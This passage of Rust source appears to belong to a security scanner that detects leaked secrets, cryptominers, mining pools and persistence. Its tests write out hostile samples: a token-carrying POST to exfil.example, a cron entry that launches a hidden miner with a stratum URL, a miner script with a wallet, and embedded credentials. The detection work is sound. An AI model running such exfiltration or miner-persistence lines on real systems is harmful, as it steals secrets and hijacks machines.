        for h in hits.secrets {
            let rule = &self.secrets().rules()[h.rule];
            out.push(Finding {
                rule_id: rule.meta.id.clone(),
                category: Category::Secret,
                severity: rule.severity,
                confidence: h.confidence,
                title: rule.meta.title.clone(),
                fingerprint: Finding::fingerprint_of(&rule.meta.id, fp_path, &h.fingerprint_value),
                location: location(h.line),
                evidence: h.evidence,
            });
        }
        for h in hits.miners {
            out.push(Finding {
                category: if h.rule_id.starts_with("packer/") {
                    Category::Malware
                } else {
                    Category::Miner
                },
                severity: h.severity,
                confidence: Confidence::High,
                title: h.title,
                fingerprint: Finding::fingerprint_of(&h.rule_id, fp_path, &h.fingerprint_value),
                location: location(h.line),
                evidence: h.evidence,
                rule_id: h.rule_id,
            });
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn captured_text_is_shown_with_its_secrets_redacted() {
        let token = "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";
        let sent = format!("POST /x HTTP/1.1\r\nHost: exfil.example\r\n\r\ntoken={token}\n");
        let shown = ContentEngine::builtin().redact_text(sent.as_bytes());
        assert!(!shown.contains(token), "{shown}");
        assert!(
            shown.contains("POST /x HTTP/1.1") && shown.contains("token=ghp_"),
            "{shown}"
        );
    }

    /// Rules limited to some paths are scanned only over files on those paths, and found
    /// there; the same bytes anywhere else report nothing (as before the split).
    #[test]
    fn path_limited_rules_are_scanned_on_their_paths_only() {
        let e = ContentEngine::builtin();
        assert!(e.gated.is_some());
        let line = b"https://ci-bot:Zq3kP9vB2nM4cR8tW1yZ@git.example.org\n";
        let ids = |path: &str| -> Vec<String> {
            e.scan(path, line)
                .unwrap()
                .secrets
                .iter()
                .map(|h| e.secrets.rules()[h.rule].meta.id.clone())
                .collect()
        };
        assert!(e.secrets.gated_path("/root/.git-credentials"));
        assert!(ids("/root/.git-credentials").contains(&"secret/git-credentials".to_string()));
        assert!(!e.secrets.gated_path("/usr/share/doc/app/index.html"));
        assert!(
            !ids("/usr/share/doc/app/index.html").contains(&"secret/git-credentials".to_string())
        );
    }

    /// A rule with an `anchor` is found by memmem, not YARA-X: every secret around each
    /// anchor (two close together, at the start and end of the file), each once, and
    /// none where the regex's word boundaries fail just outside the confirm window.
    #[test]
    fn anchored_rules_find_every_match_around_their_anchor() {
        let e = ContentEngine::builtin();
        let i = e
            .secrets
            .rules()
            .iter()
            .position(|r| r.meta.id == "secret/azure-client-secret")
            .unwrap();
        assert_eq!(e.secrets.rules()[i].meta.anchor.as_deref(), Some("Q~"));
        // Not in YARA-X's rule sets.
        let name = format!("r{i}");
        assert!(
            !e.text
                .iter()
                .chain(e.binary.iter())
                .any(|r| r.identifier() == name)
        );
        let a = "Xy48Q~Zq3kP9vB2nM4cR8tW1yZ6hJ5gF0eL3sD";
        let b = "Pq71Q~Ab3kP9vB2nM4cR8tW1yZ6hJ5gF0eL3sD";
        let found = |data: &str| -> Vec<Vec<u8>> {
            e.scan("/app/env", data.as_bytes())
                .unwrap()
                .secrets
                .into_iter()
                .filter(|h| h.rule == i)
                .map(|h| h.fingerprint_value)
                .collect()
        };
        let both = vec![a.as_bytes().to_vec(), b.as_bytes().to_vec()];
        assert_eq!(found(&format!("{a} {b}")), both);
        assert_eq!(found(&format!("{a}\n{a}\n{b}")), both);
        assert_eq!(found(a), vec![a.as_bytes().to_vec()]);
        // A word character more before it, or more than 34 after `Q~`: not a client
        // secret (the regex's `\b`s see past the window's edges).
        assert!(found(&format!("z{a}")).is_empty());
        assert_eq!(found(&format!("{a}zz")).len(), 1);
        assert!(found(&format!("{a}zzz")).is_empty());
        // `Q~` inside a match's first characters: the match is found whole, once, and a
        // run too long for a secret is not cut at the window's edge into one.
        let inner = "xQ~5Q~Zq3kP9vB2nM4cR8tW1yZ6hJ5gF0eL3sDab";
        assert_eq!(
            found(&format!(" {inner} ")),
            vec![inner.as_bytes().to_vec()]
        );
        assert!(found(&format!(" zQ~5Q~{}", "Ab3kP9vB2n".repeat(4))).is_empty());
        assert!(found(&"Q~".repeat(5000)).is_empty());
        // The line is the anchor's.
        let hits = e
            .scan("/app/env", format!("x\ny\nk={a}\n").as_bytes())
            .unwrap();
        assert_eq!(hits.secrets.iter().find(|h| h.rule == i).unwrap().line, 3);
    }

    /// `anchor` is refused where it cannot stand for the whole regex.
    #[test]
    fn anchors_are_plain_literals() {
        let mut r = canary_rules::secret_rules()
            .iter()
            .find(|r| r.anchor.is_some())
            .unwrap()
            .clone();
        r.nocase = true;
        let src = RuleSources {
            secrets: vec![r],
            ..RuleSources::builtin()
        };
        let err = ContentEngine::compile(&src)
            .err()
            .expect("refused")
            .to_string();
        assert!(err.contains("anchor"), "{err}");
    }

    fn miners(path: &str, data: &[u8]) -> Vec<MinerHit> {
        ContentEngine::builtin().scan(path, data).unwrap().miners
    }

    /// The built-in rules plus `user`, compiled (leaked: engines are 'static).
    fn compile_with(user: &canary_rules::UserRules) -> Result<&'static ContentEngine, String> {
        let mut src = RuleSources::builtin();
        src.add_user(user);
        ContentEngine::compile(&src)
            .map(|e| &*Box::leak(Box::new(e)))
            .map_err(|e| e.to_string())
    }

    /// User rules holding one YARA file.
    fn yara_file(name: &str, text: &str) -> canary_rules::UserRules {
        canary_rules::UserRules {
            yara: vec![(name.into(), text.into())],
            ..Default::default()
        }
    }

    fn ids(hits: &[MinerHit]) -> Vec<&str> {
        hits.iter().map(|h| h.rule_id.as_str()).collect()
    }

    fn rule_with(condition: &str) -> String {
        format!("rule r\n{{\n  strings:\n    $a = \"x\"\n  condition:\n    {condition}\n}}\n")
    }

    #[test]
    fn magic_class_reads_only_a_guard_every_match_needs() {
        let g = EXECUTABLE_GUARD;
        for (cond, want) in [
            (format!("{g}\n    and (2 of them or $a)"), Magic::Executable),
            (
                format!("{g} and $a and (#a > 2 or $a at 0)"),
                Magic::Executable,
            ),
            (format!("{ELF_GUARD}\n    and $a"), Magic::Executable),
            (format!("not {g} and ($a or $a)"), Magic::NotExecutable),
            // A top-level `or` lets the other side match any file.
            (format!("{g} and $a or $a"), Magic::Any),
            (format!("not {g} and $a or $a"), Magic::Any),
            (format!("$a and {g}"), Magic::Any),
            (format!("{g} or $a"), Magic::Any),
            (format!("not ({g} and $a)"), Magic::Any),
            ("filesize < 20MB and $a".to_string(), Magic::Any),
            // Unbalanced or unreadable: both sets.
            (format!("{g} and ($a"), Magic::Any),
            (format!("{g} and $a == \"or\""), Magic::Any),
        ] {
            assert_eq!(magic_class(&rule_with(&cond)), want, "{cond}");
        }
        // Two conditions in one text, or none.
        assert_eq!(magic_class("rule r { condition: true }"), Magic::Any);
    }

    /// Whole-name occurrences the plain way: every place a listed name occurs with no
    /// hostname character just before or after it.
    fn pools_by_brute_force(pools: &[String], data: &[u8]) -> Vec<(usize, std::ops::Range<usize>)> {
        let mut out = Vec::new();
        for (i, p) in pools.iter().enumerate() {
            for at in memchr::memmem::find_iter(data, p.as_bytes()) {
                let end = at + p.len();
                if (at == 0 || !host_char(data[at - 1]))
                    && (end == data.len() || !host_char(data[end]))
                {
                    out.push((i, at..end));
                }
            }
        }
        out.sort_by_key(|(i, r)| (r.start, r.end, *i));
        out
    }

    #[test]
    fn pool_matcher_finds_what_a_search_for_every_name_finds() {
        let pools: Vec<String> = [
            "a.x.org",
            "b.a.x.org",
            "x.org",
            "y.com",
            "xy.com",
            "x.org.uk",
        ]
        .map(String::from)
        .to_vec();
        let m = PoolMatcher::new(&pools);
        let found = |data: &[u8]| {
            let mut out = Vec::new();
            m.find(data, &mut out);
            out.sort_by_key(|(i, r)| (r.start, r.end, *i));
            out
        };
        for data in [
            &b"x.org"[..],
            b"see b.a.x.org, a.x.org. and x.org.uk or x.org.",
            b"notx.org x.orgs x-x.org _x.org X.ORG xy.com.y.com .y.com..x.org",
            b"a.x.org.y.com\0xy.com\xffx.org",
            b"...x.org...",
            b"",
            b".",
            b"org",
        ] {
            assert_eq!(
                found(data),
                pools_by_brute_force(&pools, data),
                "{:?}",
                String::from_utf8_lossy(data)
            );
        }
        // Labels longer than any name, before names and look-alikes.
        for tail in [&b".x.org"[..], b"x.org", b".a.x.org.y.com"] {
            let data = [&b"a".repeat(5000)[..], tail].concat();
            assert_eq!(found(&data), pools_by_brute_force(&pools, &data));
        }
        // Random strings over the names' own bytes.
        let alphabet = b"abxyorgcmuk.-_ \n";
        let mut state = 0x9e3779b97f4a7c15u64;
        for _ in 0..2000 {
            let data: Vec<u8> = (0..64)
                .map(|_| {
                    state ^= state << 13;
                    state ^= state >> 7;
                    state ^= state << 17;
                    alphabet[(state % alphabet.len() as u64) as usize]
                })
                .collect();
            assert_eq!(
                found(&data),
                pools_by_brute_force(&pools, &data),
                "{:?}",
                String::from_utf8_lossy(&data)
            );
        }
        // The built-in list, through the engine: the longest listed name at a place is
        // the one reported.
        let engine = ContentEngine::builtin();
        let hits = engine
            .scan(
                "/app/notes",
                b"see xmr-eu1.nanopool.org and pool.supportxmr.com\n",
            )
            .unwrap();
        let hosts: Vec<&str> = hits
            .miners
            .iter()
            .filter(|h| h.rule_id == "miner/pool-host")
            .map(|h| h.evidence.as_str())
            .collect();
        assert_eq!(hosts, ["xmr-eu1.nanopool.org", "pool.supportxmr.com"]);
        // Look-alikes by the thousand do not hide a name after them.
        let mut padded = b"xnanopool.org nanopool.org ".repeat(MAX_HITS_PER_POOL + 5);
        padded.extend_from_slice(b"pools: xmr-eu1.nanopool.org\n");
        let hits = engine.scan("/app/notes", &padded).unwrap();
        assert!(
            hits.miners
                .iter()
                .any(|h| h.rule_id == "miner/pool-host" && h.evidence == "xmr-eu1.nanopool.org"),
            "{:?}",
            ids(&hits.miners)
        );
    }

    /// Our rules split into one source per rule, and nearly every one is bound to
    /// executables or to other files: a regression here silently costs every file the
    /// atoms of rules that cannot match it.
    #[test]
    fn builtin_rules_split_by_executable_magic() {
        let src = canary_rules::miner_yara();
        let rules = split_rules(src).expect("miners.yar holds only comments before its rules");
        assert_eq!(rules.len(), canary_rules::miner_rules().len());
        let class_of = |name: &str| {
            let r = rules
                .iter()
                .find(|r| r.split_whitespace().nth(1) == Some(name))
                .unwrap_or_else(|| panic!("{name} in miners.yar"));
            magic_class(r)
        };
        assert_eq!(class_of("miner_xmrig_binary"), Magic::Executable);
        assert_eq!(class_of("packer_upx_elf"), Magic::Executable);
        assert_eq!(class_of("miner_go_stratum_binary"), Magic::Executable);
        assert_eq!(class_of("miner_xmrig_config"), Magic::NotExecutable);
        assert_eq!(class_of("miner_browser_wasm"), Magic::Any);
        let any: Vec<&str> = rules
            .iter()
            .filter(|r| magic_class(r) == Magic::Any)
            .filter_map(|r| r.split_whitespace().nth(1))
            .collect();
        assert_eq!(any, ["miner_browser_wasm"]);
        // The examples agree with the class: a rule bound to executables shows executables.
        for r in canary_rules::miner_rules() {
            let class = class_of(&r.name);
            for p in &r.positive {
                match class {
                    Magic::Executable => assert!(has_executable_magic(p), "{}", r.name),
                    Magic::NotExecutable => assert!(!has_executable_magic(p), "{}", r.name),
                    Magic::Any => {}
                }
            }
        }
        // A source with more than comments before its first rule is not split.
        assert!(split_rules("import \"elf\"\nrule a { condition: true }\n").is_none());
        assert_eq!(
            split_rules(
                "/* c\n rule x */\n// d\nrule a { condition: true }\nrule b { condition: true }\n"
            )
            .map(|v| v.len()),
            Some(2)
        );
    }

    /// Each set holds what can match its files: the secret catalog and the stratum
    /// pattern in both, a binary rule only for executables, a text rule only for the rest.
    #[test]
    fn text_and_binary_sets_hold_their_rules() {
        let engine = ContentEngine::builtin();
        let names = |rules: &yara_x::Rules| -> HashSet<String> {
            rules
                .iter()
                .map(|r| format!("{}:{}", r.namespace(), r.identifier()))
                .collect()
        };
        let (text, binary) = (names(&engine.text), names(&engine.binary));
        for both in ["lists:stratum", "miners:miner_browser_wasm"] {
            assert!(text.contains(both) && binary.contains(both), "{both}");
        }
        let secret = format!("{}:r0", super::super::secrets::NAMESPACE);
        assert!(text.contains(&secret) && binary.contains(&secret));
        assert!(binary.contains("miners:miner_xmrig_binary"));
        assert!(!text.contains("miners:miner_xmrig_binary"));
        assert!(text.contains("miners:miner_xmrig_config"));
        assert!(!binary.contains("miners:miner_xmrig_config"));
        // An ELF with an xmrig config inside is still an xmrig binary, and a config file is
        // still a config: each through its set.
        let elf = [
            &b"\x7fELF\x02\x01\x01\x00"[..],
            b"Usage: xmrig [OPTIONS]\0donate.v2.xmrig.com\0",
        ]
        .concat();
        let hits = engine.scan("/usr/bin/x", &elf).unwrap();
        assert!(
            ids(&hits.miners).contains(&"miner/xmrig"),
            "{:?}",
            ids(&hits.miners)
        );
    }

    /// Every YARA rule finds its positive examples and not its negative ones, and YARA-X
    /// reads the same metadata as `canary-rules` does from the source text.
    #[test]
    fn every_yara_rule_passes_its_own_examples() {
        let engine = ContentEngine::builtin();
        let from_text = canary_rules::miner_rules();
        assert_eq!(engine.yara_rules().len(), from_text.len());
        for r in engine.yara_rules() {
            let text = from_text
                .iter()
                .find(|m| m.name == r.meta.name)
                .expect("same rules");
            assert_eq!(&r.meta, text, "metadata of {}", r.meta.name);
        }
        let yara_ids: HashSet<String> = engine
            .yara_rules()
            .iter()
            .map(|r| r.meta.id.clone())
            .collect();
        let failures = engine.example_failures(Some(&yara_ids));
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }

    #[test]
    fn stratum_urls_pool_hosts_and_wallets() {
        let wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
        let script =
            format!("#!/bin/sh\n./x -o stratum+tcp://pool.supportxmr.com:3333 -u {wallet} -p w1\n");
        let hits = miners("/opt/run.sh", script.as_bytes());
        let url = hits
            .iter()
            .find(|h| h.rule_id == "miner/stratum-url")
            .expect("stratum URL found");
        assert_eq!(url.severity, Severity::Critical, "known pool: {url:?}");
        assert_eq!(url.line, 2);
        assert!(url.evidence.contains("port 3333"), "{url:?}");
        assert!(
            !ids(&hits).contains(&"miner/pool-host"),
            "the pool is reported once, as the URL: {hits:?}"
        );
        let w = hits
            .iter()
            .find(|h| h.rule_id == "miner/wallet-address")
            .expect("wallet next to the miner");
        assert_eq!(w.evidence, wallet);
        assert!(w.title.starts_with("Monero"));

        // A wallet alone (a donation address in a README) is not a miner.
        let readme = format!("Donations welcome: {wallet}\n");
        assert!(miners("/usr/share/doc/x/README", readme.as_bytes()).is_empty());

        // Pool names match as whole hostnames only.
        assert!(miners("/a", b"see notsupportxmr.com and supportxmr.community").is_empty());
        let mention = miners(
            "/usr/share/doc/x/pools.txt",
            b"pools: xmr-eu1.nanopool.org\n",
        );
        assert_eq!(ids(&mention), ["miner/pool-host"]);
        assert_eq!(mention[0].severity, Severity::Medium);
        let config = miners("/app/conf", b"host = xmr-eu1.nanopool.org:14433\n");
        assert_eq!(config[0].severity, Severity::High, "{config:?}");
    }

    #[test]
    fn miners_in_cron_and_units_are_persistence() {
        let cron = b"*/5 * * * * root /tmp/.x/kworker -o stratum+tcp://203.0.113.9:4444 -u x\n";
        let hits = miners("/etc/cron.d/sync", cron);
        assert!(ids(&hits).contains(&"miner/persistence"), "{hits:?}");
        let url = hits
            .iter()
            .find(|h| h.rule_id == "miner/stratum-url")
            .unwrap();
        assert_eq!(url.severity, Severity::Critical, "a miner started by cron");
        let plain = miners("/opt/notes.txt", cron);
        assert!(!ids(&plain).contains(&"miner/persistence"));
        assert!(is_persistence_path("/etc/systemd/system/x.service"));
        assert!(is_persistence_path("/root/.bashrc"));
        assert!(!is_persistence_path("/usr/bin/cron"));
    }

    #[test]
    fn known_bad_hashes_match_executables_only() {
        let elf = b"\x7fELF\x02\x01\x01 a made-up payload".to_vec();
        let digest: [u8; 32] = Sha256::digest(&elf).into();
        let user = canary_rules::UserRules {
            iocs: vec![canary_rules::Ioc {
                sha256: digest,
                family: "testminer".into(),
                source: "unit test".into(),
            }],
            ..Default::default()
        };
        let engine = compile_with(&user).unwrap();
        let hits = engine.scan("/usr/bin/x", &elf).unwrap().miners;
        assert_eq!(ids(&hits), ["miner/known-bad-sha256"]);
        assert!(hits[0].evidence.contains(&crate::hex(&digest)));
    }

    #[test]
    fn user_yara_rules_need_metadata_and_unique_ids() {
        let bad = "rule x { strings: $a = \"evil-marker\" condition: $a }";
        let err = compile_with(&yara_file("my.yar", bad))
            .err()
            .expect("refused");
        assert!(err.contains("id"), "{err}");

        let good = "rule x { meta: id = \"user/evil\" severity = \"high\" description = \"d\" strings: $a = \"evil-marker\" condition: $a }";
        let engine = compile_with(&yara_file("my.yar", good)).unwrap();
        let hits = engine.scan("/a", b"xx evil-marker yy").unwrap().miners;
        assert_eq!(ids(&hits), ["user/evil"]);

        let slow = "rule s { meta: id = \"user/slow\" severity = \"low\" description = \"d\" strings: $a = /[A-Za-z0-9+\\/]{40}/ condition: $a }";
        let err = compile_with(&yara_file("slow.yar", slow))
            .err()
            .expect("slow pattern refused");
        assert!(err.contains("slow.yar"), "{err}");
    }
}

#[cfg(all(test, feature = "fixtures"))]
mod throughput {
    use std::collections::HashMap;

    /// Scanners of an engine's text and binary sets: each file is scanned with the set the
    /// engine picks for it (YARA-X alone, without the Rust checks).
    struct Picked<'r> {
        text: yara_x::Scanner<'r>,
        binary: yara_x::Scanner<'r>,
    }

    impl<'r> Picked<'r> {
        fn new(e: &'r super::ContentEngine) -> Self {
            Picked {
                text: yara_x::Scanner::new(&e.text),
                binary: yara_x::Scanner::new(&e.binary),
            }
        }

        fn scan(&mut self, data: &[u8]) {
            let s = if super::has_executable_magic(data) {
                &mut self.binary
            } else {
                &mut self.text
            };
            s.scan(data).unwrap();
        }
    }

    /// YARA-X throughput of each part of the content rule set, and of each miner rule,
    /// on real files of this machine (or `CANARY_THROUGHPUT_FILE`), to find weak atoms.
    /// Run: cargo test --release -p canary-analyzer --features fixtures --lib content_rule_throughput -- --ignored --nocapture
    #[test]
    #[ignore]
    fn content_rule_throughput() {
        let mut data = Vec::with_capacity(96 << 20);
        // Where each real file starts and ends in `data`.
        let mut bounds: Vec<std::ops::Range<usize>> = Vec::new();
        if let Ok(path) = std::env::var("CANARY_THROUGHPUT_FILE") {
            data = std::fs::read(path).unwrap();
        } else {
            // 24 MiB from each: libraries and binaries, Perl, Python, docs.
            for top in [
                "/usr/lib/x86_64-linux-gnu",
                "/usr/share/perl",
                "/usr/lib/python3",
                "/usr/share/doc",
            ] {
                let budget = data.len() + (24 << 20);
                for p in crate::corpus::walk_files(std::path::Path::new(top), usize::MAX) {
                    let small = std::fs::metadata(&p).is_ok_and(|m| m.len() < 8 << 20);
                    if small && data.len() < budget {
                        let start = data.len();
                        data.extend(std::fs::read(&p).unwrap_or_default());
                        bounds.push(start..data.len());
                    }
                }
            }
        }
        let files: Vec<&[u8]> = data.chunks(256 << 10).collect();
        let time = |name: &str, src: &str| {
            let mut c = yara_x::Compiler::new();
            c.add_source(src).unwrap();
            let rules = c.build();
            let mut s = yara_x::Scanner::new(&rules);
            let t = std::time::Instant::now();
            for f in &files {
                s.scan(f).unwrap();
            }
            let mbs = data.len() as f64 / t.elapsed().as_secs_f64() / 1e6;
            println!("{mbs:>10.0} MB/s  {name}");
        };
        let miners = canary_rules::miner_yara();
        time("miners.yar (all)", miners);
        let starts: Vec<usize> = miners
            .match_indices("\nrule ")
            .map(|(i, _)| i + 1)
            .collect();
        for (k, &s) in starts.iter().enumerate() {
            let e = starts.get(k + 1).copied().unwrap_or(miners.len());
            let name = miners[s + 5..].split_whitespace().next().unwrap_or("?");
            time(name, &miners[s..e]);
        }
        let pools: Vec<String> = canary_rules::mining_pools()
            .enumerate()
            .map(|(i, p)| format!("$p{i} = \"{p}\""))
            .collect();
        time(
            "pool hostnames, every name a pattern",
            &format!(
                "rule p {{ strings: {} condition: any of them }}",
                pools.join("\n")
            ),
        );
        let names: Vec<String> = canary_rules::mining_pools().map(str::to_string).collect();
        let matcher = super::PoolMatcher::new(&names);
        let t = std::time::Instant::now();
        let mut hits = Vec::new();
        for f in &files {
            hits.clear();
            matcher.find(f, &mut hits);
        }
        println!(
            "{:>10.0} MB/s  pool hostnames, the Rust matcher (as the engine)",
            data.len() as f64 / t.elapsed().as_secs_f64() / 1e6
        );
        // Seconds for YARA-X alone over `files` with an engine's rules, each file with the
        // set the engine picks for it.
        let yara_secs = |e: &super::ContentEngine| {
            let mut sets = Picked::new(e);
            let t = std::time::Instant::now();
            for f in &files {
                sets.scan(f);
            }
            t.elapsed().as_secs_f64()
        };
        let secrets_only = super::ContentEngine::compile(&super::RuleSources {
            yara: vec![],
            pools: vec![],
            ..super::RuleSources::builtin()
        })
        .unwrap();
        let mbs = data.len() as f64 / yara_secs(&secrets_only) / 1e6;
        println!("{mbs:>10.0} MB/s  (the secret catalog and the stratum pattern, YARA-X alone)");
        let engine = super::ContentEngine::builtin();
        let mbs = data.len() as f64 / yara_secs(engine) / 1e6;
        if !bounds.is_empty() {
            // The two sets (text, binary) against one set of every rule, file by file
            // and interleaved, so that the machine's ups and downs fall on both alike.
            let one_set = super::ContentEngine::compile(&super::RuleSources {
                yara: vec![("miners.yar".into(), canary_rules::miner_yara(), false)],
                ..super::RuleSources::builtin()
            })
            .unwrap();
            let mut all = yara_x::Scanner::new(&one_set.text);
            let mut split_sets = Picked::new(engine);
            let (mut t_one, mut t_split) = (0f64, 0f64);
            let (mut exec_bytes, mut exec_one, mut exec_split) = (0usize, 0f64, 0f64);
            for _round in 0..3 {
                for r in &bounds {
                    let f = &data[r.clone()];
                    let t = std::time::Instant::now();
                    all.scan(f).unwrap();
                    let one = t.elapsed().as_secs_f64();
                    let t = std::time::Instant::now();
                    split_sets.scan(f);
                    let split = t.elapsed().as_secs_f64();
                    t_one += one;
                    t_split += split;
                    if super::has_executable_magic(f) {
                        exec_bytes += f.len();
                        exec_one += one;
                        exec_split += split;
                    }
                }
            }
            let mb = 3.0 * data.len() as f64 / 1e6;
            let exec_mb = exec_bytes as f64 / 1e6;
            println!(
                "{:>10.0} MB/s  one set of every rule, {} real files ({:.0} % of bytes executables: {:.0} MB/s, the rest {:.0} MB/s)",
                mb / t_one,
                bounds.len(),
                100.0 * exec_mb / mb,
                exec_mb / exec_one,
                (mb - exec_mb) / (t_one - exec_one)
            );
            println!(
                "{:>10.0} MB/s  the text and binary sets (executables: {:.0} MB/s, the rest {:.0} MB/s)",
                mb / t_split,
                exec_mb / exec_split,
                (mb - exec_mb) / (t_split - exec_split)
            );
        }
        println!("{mbs:>10.0} MB/s  (the whole rule set, YARA-X alone)");
        if std::env::var_os("CANARY_LEAVE_ONE_OUT").is_some() {
            // What each secret rule costs inside the whole set: alone, every rule pays the
            // same automaton walk, which hides the cost of its atom hits.
            let full = data.len() as f64 / mbs;
            // Whole groups out: the automaton's cost is in how often text keeps it off
            // its root state, which a group of similar atoms can do where no one does.
            let without_miners = super::ContentEngine::compile(&super::RuleSources {
                yara: vec![],
                ..super::RuleSources::builtin()
            })
            .unwrap();
            let saved = full - yara_secs(&without_miners) * 1e6;
            println!(
                "{:>10.2} ns/B saved without miners.yar",
                saved * 1e3 / data.len() as f64
            );
            // The same for each rule of miners.yar (a private rule others use stays).
            for (k, &s) in starts.iter().enumerate() {
                let e = starts.get(k + 1).copied().unwrap_or(miners.len());
                let name = miners[s + 5..].split_whitespace().next().unwrap_or("?");
                if miners[..s].ends_with("private ") {
                    continue;
                }
                let without = format!("{}{}", &miners[..s], &miners[e..]);
                let src = super::RuleSources {
                    yara: vec![("miners.yar".to_string(), without.as_str(), true)],
                    ..super::RuleSources::builtin()
                };
                let Ok(engine) = super::ContentEngine::compile(&src) else {
                    continue;
                };
                let saved = full - yara_secs(&engine) * 1e6;
                println!(
                    "{:>10.2} ns/B saved without {name}",
                    saved * 1e3 / data.len() as f64
                );
            }
            for skip in 0..canary_rules::secret_rules().len() {
                let mut src = super::RuleSources::builtin();
                let id = src.secrets.remove(skip).id;
                let e = super::ContentEngine::compile(&src).unwrap();
                let saved = full - yara_secs(&e) * 1e6;
                println!(
                    "{:>10.2} ns/B saved without {id}",
                    saved * 1e3 / data.len() as f64
                );
            }
        }
        let t = std::time::Instant::now();
        for f in &files {
            engine.scan("/bench", f).unwrap();
        }
        let mbs = data.len() as f64 / t.elapsed().as_secs_f64() / 1e6;
        println!(
            "{mbs:>10.0} MB/s  (the whole engine with Rust checks, {} MB)",
            data.len() >> 20
        );
        // Fixed cost per scanned file: images hold tens of thousands of small files.
        let small = vec![b'x'; 512];
        let t = std::time::Instant::now();
        for _ in 0..20_000 {
            engine.scan("/bench", &small).unwrap();
        }
        println!(
            "{:>10.1} µs per 512-byte file (the fixed cost of one scan)",
            t.elapsed().as_secs_f64() * 1e6 / 20_000.0
        );
    }
    /// Where the engine's time goes on the realistic bench's files (the same packages, in
    /// the same order), by kind of file: executables, text and other bytes by extension;
    /// YARA-X alone and the whole engine, two passes.
    /// Run: cargo test --release -p canary-analyzer --features fixtures --lib content_cost_by_file_kind -- --ignored --nocapture
    #[test]
    #[ignore]
    fn content_cost_by_file_kind() {
        let files = crate::corpus::debian_files(crate::corpus::BIG_PACKAGES, 512 << 20, 64 << 20);
        let engine = super::ContentEngine::builtin();
        let kind = |path: &str, data: &[u8]| -> String {
            if super::has_executable_magic(data) {
                return "executable".into();
            }
            let head = &data[..data.len().min(4096)];
            let printable = head
                .iter()
                .filter(|&&b| matches!(b, b'\n' | b'\t' | b'\r' | 0x20..=0x7e))
                .count();
            let class = if printable * 20 >= head.len() * 19 {
                "text"
            } else {
                "other"
            };
            let name = path.rsplit('/').next().unwrap_or("");
            let ext = name.rsplit_once('.').map_or("", |(_, e)| e);
            format!("{class} .{}", if ext.len() <= 5 { ext } else { "?" })
        };
        // kind → (files, bytes, YARA-X seconds, engine seconds)
        let mut by_kind: HashMap<String, (usize, usize, f64, f64)> = HashMap::new();
        let mut sets = Picked::new(engine);
        for pass in 0..2 {
            for (path, data, _) in &files {
                let mut yara_alone = || {
                    let t = std::time::Instant::now();
                    sets.scan(data);
                    t.elapsed().as_secs_f64()
                };
                let whole_engine = || {
                    let t = std::time::Instant::now();
                    engine.scan(path, data).unwrap();
                    t.elapsed().as_secs_f64()
                };
                // Each first in one pass: the second finds the file in the cache.
                let (yara, whole) = if pass == 0 {
                    let y = yara_alone();
                    (y, whole_engine())
                } else {
                    let w = whole_engine();
                    (yara_alone(), w)
                };
                let k = by_kind.entry(kind(path, data)).or_default();
                *k = (k.0 + 1, k.1 + data.len(), k.2 + yara, k.3 + whole);
            }
        }
        let mut rows: Vec<_> = by_kind.into_iter().collect();
        rows.sort_by(|a, b| b.1.3.total_cmp(&a.1.3));
        let (bytes, yara, whole) = rows.iter().fold((0, 0.0, 0.0), |t, (_, r)| {
            (t.0 + r.1 / 2, t.1 + r.2 / 2.0, t.2 + r.3 / 2.0)
        });
        println!(
            "{} files, {} MB: YARA-X {yara:.3} s, the whole engine {whole:.3} s (one thread, a pass)",
            files.len(),
            bytes >> 20
        );
        for (k, (n, b, y, w)) in rows.iter().take(20) {
            println!(
                "{k:>12} {:>6} files {:>7.1} MB  YARA-X {:>5.2} ns/B  engine {:>5.2} ns/B  {:>6.3} s",
                n / 2,
                *b as f64 / 2e6,
                y * 1e9 / *b as f64,
                w * 1e9 / *b as f64,
                w / 2.0
            );
        }
    }
}
